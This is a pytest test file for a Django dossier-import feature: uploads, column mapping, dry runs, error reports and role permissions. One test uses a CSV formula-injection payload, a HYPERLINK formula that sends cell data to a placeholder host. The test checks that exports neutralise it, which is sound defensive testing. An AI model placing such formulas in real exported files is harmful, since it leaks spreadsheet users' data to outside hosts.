"""Upload, column mapping, progress and error pages; who may do what."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from apps.audit.models import AuditEntry
from apps.dossiers.models import ColumnMapping, Dossier, DossierImport
from apps.jobs.models import Job
from tests.apps.dossiers.conftest import row


def _upload(client, path, name=None, **data):
    f = SimpleUploadedFile(name or path.name, path.read_bytes())
    return client.post("/ho-so/nhap/", {"file": f, **data})


def test_upload_runs_the_import_as_a_job(
    world, catalogue, write_csv, login, django_capture_on_commit_callbacks
):
    client = login(world.officer_a1)
    path = write_csv([row(), row(MaHoSo="BAD", DonVi="xã Không Có")])
    with django_capture_on_commit_callbacks(execute=True):
        response = _upload(client, path)
    imp = DossierImport.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/ho-so/nhap/{imp.pk}/"
    assert (imp.status, imp.created, imp.errors, imp.org_unit) == ("done", 1, 1, world.a1)
    job = Job.objects.get(kind="dossiers.import")
    assert job.status == "succeeded" and job.subject_id == imp.pk
    page = client.get(f"/ho-so/nhap/{imp.pk}/").content.decode()
    assert "Đã thêm 1 hồ sơ" in page and "xã Không Có" in page
    assert AuditEntry.objects.filter(action="event", message__contains="Nhập hồ sơ từ").count() == 1


def test_unknown_columns_ask_for_a_mapping_remembered_for_the_next_file(
    world, catalogue, write_csv, login, django_capture_on_commit_callbacks
):
    names = {"MaHoSo": "Số HS", "MaTTHC": "Thủ tục", "DonVi": "Nơi nhận", "NgayTiepNhan": "Nhận",
             "NgayHenTra": "Hẹn", "NgayKetThucXuLy": "Xong"}  # fmt: skip
    r = {names[k]: v for k, v in row().items() if k in names}
    path = write_csv([r], columns=list(names.values()))
    client = login(world.officer_a1)
    response = _upload(client, path)
    imp = DossierImport.objects.get()
    assert imp.status == "mapping" and response["Location"] == f"/ho-so/nhap/{imp.pk}/cot/"
    page = client.get(f"/ho-so/nhap/{imp.pk}/cot/").content.decode()
    assert "Số HS" in page
    data = {f"col_{c}": h for c, h in names.items()} | {"name": "Một cửa huyện cũ"}
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/ho-so/nhap/{imp.pk}/cot/", data)
    imp.refresh_from_db()
    assert imp.status == "done" and imp.created == 1
    mapping = ColumnMapping.objects.get(name="Một cửa huyện cũ")
    path2 = write_csv([dict(r, **{"Số HS": "HS-2"})], columns=list(names.values()), name="lan-2.csv")
    with django_capture_on_commit_callbacks(execute=True):
        _upload(client, path2, mapping=mapping.pk)
    assert DossierImport.objects.latest("pk").status == "done" and Dossier.objects.count() == 2


def test_dry_run_then_import_for_real(world, catalogue, write_csv, login, django_capture_on_commit_callbacks):
    client = login(world.officer_a1)
    with django_capture_on_commit_callbacks(execute=True):
        _upload(client, write_csv([row()]), dry_run="on")
    dry = DossierImport.objects.get()
    assert dry.status == "done" and dry.created == 1 and not Dossier.objects.exists()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/ho-so/nhap/{dry.pk}/nhap-lai/")
    real = DossierImport.objects.exclude(pk=dry.pk).get()
    assert response["Location"] == f"/ho-so/nhap/{real.pk}/" and not real.dry_run
    assert Dossier.objects.count() == 1


def test_error_report_downloads_keep_formula_text_as_text(
    world, catalogue, write_csv, login, django_capture_on_commit_callbacks
):
    client = login(world.officer_a1)
    with django_capture_on_commit_callbacks(execute=True):
        _upload(
            client, write_csv([row(MaHoSo='=HYPERLINK("http://x.example/?"&A1,"Bấm")', DonVi="xã Không Có")])
        )
    imp = DossierImport.objects.get()
    csv_text = client.get(f"/ho-so/nhap/{imp.pk}/loi.csv").content.decode("utf-8-sig")
    assert "xã Không Có" in csv_text
    data = client.get(f"/ho-so/nhap/{imp.pk}/loi.xlsx").content
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["B3"].value.startswith("=HYPERLINK") and ws["B3"].data_type == "s"


def test_a_binary_file_is_refused_at_upload(world, catalogue, login):
    client = login(world.officer_a1)
    f = SimpleUploadedFile("anh.csv", b"\x89PNG\r\n\x1a\n\x00\x00")
    response = client.post("/ho-so/nhap/", {"file": f}, follow=True)
    assert "không phải CSV" in response.content.decode() and not DossierImport.objects.exists()


@pytest.mark.parametrize("user", ["staff_a1", "viewer_a1", "leader_a1", "nobody"])
def test_who_may_not_upload(world, catalogue, write_csv, login, user):
    response = _upload(login(getattr(world, user)), write_csv([row()]))
    assert response.status_code == 403 and not DossierImport.objects.exists()


def test_others_do_not_see_an_import(world, catalogue, write_csv, login, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        _upload(login(world.officer_a1), write_csv([row()]))
    imp = DossierImport.objects.get()
    assert login(world.officer_b1).get(f"/ho-so/nhap/{imp.pk}/").status_code == 404
    assert login(world.officer_b1).get(f"/ho-so/nhap/{imp.pk}/loi.csv").status_code == 404
    assert login(world.officer_a).get(f"/ho-so/nhap/{imp.pk}/").status_code == 200  # the province sees it


def test_catalogue_import_by_the_province_only(world, login, django_capture_on_commit_callbacks):
    from apps.dossiers.catalogue import template_bytes

    data = template_bytes()
    denied = login(world.officer_a1).post("/ho-so/thu-tuc/", {"file": SimpleUploadedFile("dm.xlsx", data)})
    assert denied.status_code == 403
    ok = login(world.officer_a).post("/ho-so/thu-tuc/", {"file": SimpleUploadedFile("dm.xlsx", data)})
    assert ok.status_code == 302
    from apps.dossiers.models import Procedure

    assert Procedure.objects.count() == 3


def test_templates_download(world, login):
    client = login(world.viewer_a1)
    xlsx = client.get("/ho-so/mau-nhap.xlsx")
    assert load_workbook(io.BytesIO(xlsx.content)).active["A1"].value == "MaHoSo"
    text = client.get("/ho-so/mau-nhap.csv").content.decode("utf-8-sig")
    assert text.startswith("MaHoSo,MaTTHC,TenTTHC,MaLinhVuc,DonVi,KenhThucHien,NgayNopHoSo")
    assert client.get("/ho-so/mau-nhap.exe").status_code == 404
